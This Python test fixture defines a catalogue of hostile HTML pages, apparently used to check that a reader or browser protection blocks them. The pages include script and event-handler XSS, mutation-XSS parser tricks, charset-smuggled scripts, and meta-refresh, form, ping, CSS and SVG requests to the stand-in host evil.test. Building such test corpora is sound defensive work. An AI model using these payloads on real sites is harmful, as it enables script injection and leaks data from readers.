"""Pages made to attack who reads them: each asks evil.test for something, or opens a dialog, if it can.

Each has words of its own, by which it is seen that it was shown all the same.
"""

from dataclasses import dataclass

from tests.pages.press import HOSTILE

HTML = "text/html; charset=utf-8"
EVIL = "http://evil.test/"
GIF = "data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA="


@dataclass(frozen=True, slots=True)
class Attack:
    """A page. fires: Chromium does what it wants when nothing protects the reader; False: other browsers did, or may.

    waits: for a click. shown: it is HTML, and shown as a page.
    """

    body: bytes
    content_type: str = HTML
    fires: bool = True
    waits: bool = False
    shown: bool = True


def _page(inside: str, *, head: str = "", fires: bool = True, waits: bool = False) -> Attack:
    text = (
        f"<!doctype html><html><head><title>Hostile</title>{head}</head><body><h1>Its words</h1>{inside}</body></html>"
    )
    return Attack(text.encode(), fires=fires, waits=waits)


def _link(href: str, more: str = "") -> Attack:
    return _page(f"<p><a href='{href}' {more}>click here</a></p>", waits=True)


ATTACKS = {
    "all-at-once": Attack(HOSTILE.replace("Hostile words", "Its words").encode()),
    # scripts
    "script": _page("<script>alert(1)</script>"),
    "script-elsewhere": _page(f"<script src='{EVIL}a.js'></script>"),
    "script-odd": _page("<ScRiPt/x>alert(1)</sCrIpT >"),
    "script-module": _page("<script type=module>fetch('http://evil.test/a')</script>"),
    "script-rules": _page(
        '<script type="speculationrules">{"prefetch":[{"urls":["http://evil.test/s"]}]}</script>', fires=False
    ),
    "service-worker": _page(
        f"<script>navigator.serviceWorker.register('/a.js').catch(() => new Image().src = '{EVIL}b')</script>"
    ),
    "handler-image": _page("<img src=x onerror=alert(1)>"),
    "handler-load": Attack(b"<body onload=alert(1)><h1>Its words</h1>"),
    "handler-focus": _page("<input autofocus onfocus=alert(1)>"),
    "handler-toggle": _page("<details open ontoggle=alert(1)>a</details>"),
    "handler-animation": _page(
        "<b onanimationstart=alert(1) style='animation:x 1s'>a</b>", head="<style>@keyframes x{}</style>"
    ),
    "handler-click": _page("<p><a href='#a' onclick=alert(1)>click here</a></p>", waits=True),
    # going elsewhere
    "refresh": _page("", head=f"<meta http-equiv=refresh content='0;url={EVIL}r'>"),
    "refresh-in-body": _page(f"<META HTTP-EQUIV=' ReFrEsH ' CONTENT='0; URL={EVIL}r'>", fires=False),
    "refresh-odd": _page(f"<mEtA Http-Equiv=rEfReSh Content='0,{EVIL}r'>"),
    "refresh-in-noscript": _page(
        f"<noscript><meta http-equiv=refresh content='0;url={EVIL}r'></noscript>", fires=False
    ),
    "refresh-in-drawing": _page(f"<svg><meta http-equiv=refresh content='0;url={EVIL}r'></svg>"),
    "refresh-entities": _page(f"<meta http-equiv='re&#102;resh' content='0;&#117;rl={EVIL}r'>"),
    "form": _page(f"<form action='{EVIL}f'><input name=a></form><script>document.forms[0].submit()</script>"),
    "form-button": _page(
        f"<p><button form=f formaction='{EVIL}f'>click here</button></p><form id=f></form>", waits=True
    ),
    "form-image": _page(f"<form><input type=image src='{EVIL}i'></form>"),
    "link": _link(f"{EVIL}l"),
    "link-top": _link(f"{EVIL}l", "target=_top"),
    "link-new": _link(f"{EVIL}l", "target=_blank rel=opener"),
    "link-ping": _link("#a", f"ping='{EVIL}p'"),
    "link-script": _link("javascript:alert(1)"),
    "link-script-tab": _link("java\tscri\npt:alert(1)"),
    "link-script-entities": _link("&#1;&#106;avascript&colon;alert(1)"),
    "link-base": _page("<p><a href='l'>click here</a></p>", head=f"<base href='{EVIL}' target=_top>", waits=True),
    "link-area": _page(
        f"<img usemap='#m' src='{GIF}' width=90 height=90><map name=m><area shape=default href='{EVIL}l'></map>",
        waits=True,
    ),
    # loading
    "image": _page(f"<img src='{EVIL}i'>"),
    "image-old": _page(f"<image src='{EVIL}i'>"),
    "image-set": _page(f"<picture><source srcset='{EVIL}i 1x'><img srcset='{EVIL}j 1x' sizes=1px></picture>"),
    "image-base": _page("<img src='i'>", head=f"<base href='{EVIL}'>"),
    "media": _page(f"<video src='{EVIL}v' poster='{EVIL}p' autoplay></video><audio src='{EVIL}a' autoplay></audio>"),
    "frame": _page(f"<iframe src='{EVIL}f'></iframe>"),
    "frame-inside": _page("<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>"),
    "frame-script": _page("<iframe src='javascript:parent.alert(1)'></iframe>"),
    "object": _page(f"<object data='{EVIL}o'></object><embed src='{EVIL}e'>"),
    "links": _page(
        "",
        head="".join(
            f"<link rel='{rel}' as=image href='{EVIL}l'>"
            for rel in ("stylesheet", "preload", "modulepreload", "prefetch", "dns-prefetch", "preconnect", "manifest")
        ),
    ),
    "background": _page(f"<table background='{EVIL}b'><tr><td>a</table>"),
    # style
    "style-import": _page("", head=f"<style>@import '{EVIL}s';</style>"),
    "style-import-escaped": _page("", head=f"<style>@\\69mport url({EVIL}s);</style>"),
    "style-url": _page(f"<style>body {{ background: url({EVIL}s) }}</style>"),
    "style-url-escaped": _page(f"<style>body {{ background: \\75 R\\00006c({EVIL}s) }}</style>"),
    "style-set": _page(f"<style>body {{ background: image-set('{EVIL}s' 1x) }}</style>"),
    "style-attribute": _page(f'<p style="background:url(&quot;{EVIL}s&quot;)">a</p>'),
    "style-font": _page(f"<style>@font-face {{ font-family: x; src: url('{EVIL}s') }} h1 {{ font-family: x }}</style>"),
    # drawings and formulas
    "svg-script": _page("<svg><script>alert(1)</script></svg>"),
    "svg-handler": _page("<svg onload=alert(1)></svg>"),
    "svg-image": _page(f"<svg><image href='{EVIL}i'/><feImage href='{EVIL}j'/></svg>"),
    "svg-use": _page(f"<svg><use href='{EVIL}u#a'/></svg>", fires=False),
    "svg-set": _page(
        "<svg width=300 height=99><a><set attributeName=href to='javascript:alert(1)'/><text y=9>click here</text></a>",
        waits=True,
        fires=False,
    ),
    "svg-animate": _page("<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>"),
    "svg-foreign": _page(f"<svg><foreignObject><iframe src='{EVIL}f'></iframe></foreignObject></svg>"),
    "math-link": _page("<math><mtext href='javascript:alert(1)'>click here</mtext></math>", waits=True, fires=False),
    # what parsers disagree about
    "shadow": _page(f"<div><template shadowrootmode=open><img src='{EVIL}i'></template></div>"),
    "mutation-noscript": _page("<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>"),
    "mutation-svg": _page("<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'></svg>"),
    "mutation-math": _page(
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'></math>",
        fires=False,
    ),
    "mutation-form": _page(
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form>",
        fires=False,
    ),
    "mutation-title": _page("<svg><title><style><img src=x onerror=alert(1)></style></title></svg>", fires=False),
    "mutation-select": _page("<select><iframe></select><img src=x onerror=alert(1)></iframe>", fires=False),
    "mutation-xmp": _page("<xmp><p title='</xmp><img src=x onerror=alert(1)>'></p></xmp>"),
    "comment-short": _page("<!--><img src=x onerror=alert(1)>-->"),
    "comment-odd": _page("<!-- a --!><img src=x onerror=alert(1)>"),
    "comment-open": _page("<img src=x onerror=alert(1)><!-- never closed"),
    "textarea": _page("<textarea><img src=x></textarea><img src=x onerror=alert(1)>"),
    "title-open": Attack(b"<h1>Its words</h1><img src=x onerror=alert(1)><title>never closed"),
    "plaintext": _page("<img src=x onerror=alert(1)><plaintext><script>alert(2)</script>"),
    "attribute-odd": _page("<img/src=x\x0conerror\x0c=\x0calert(1)//\x00>"),
    "null": Attack(b"<h1>Its words</h1><scr\0ipt>alert(1)</scr\0ipt><img \0src=x oner\0ror=alert(1)>", fires=False),
    "duplicate-body": Attack(b"<body><h1>Its words</h1><body onload=alert(1)><html onclick=alert(2)>"),
    # what charsets hide
    "utf-7": Attack(b"<h1>Its words</h1>+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "text/html; charset=utf-7", False),
    "utf-16": Attack("\ufeff<h1>Its words</h1><script>alert(1)</script>".encode("utf-16-le"), "text/html"),
    "iso-2022-jp": Attack(
        b"<meta charset=iso-2022-jp><h1>Its words</h1><img alt='\x1b$B'><img alt='\x1b(B' src=x onerror=alert(1)>",
        "text/html",
    ),
    "xhtml": Attack(
        b"<html xmlns='http://www.w3.org/1999/xhtml'><body><h1>Its words</h1>"
        b"<script>//<![CDATA[\nalert(1)\n//]]></script></body></html>",
        "application/xhtml+xml",
    ),
    # what is no page
    "drawing": Attack(
        b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "image/svg+xml", shown=False
    ),
    "xml": Attack(
        b"<?xml version='1.0'?><r xmlns:h='http://www.w3.org/1999/xhtml'><h:script>alert(1)</h:script></r>",
        "application/xml",
        shown=False,
    ),
}
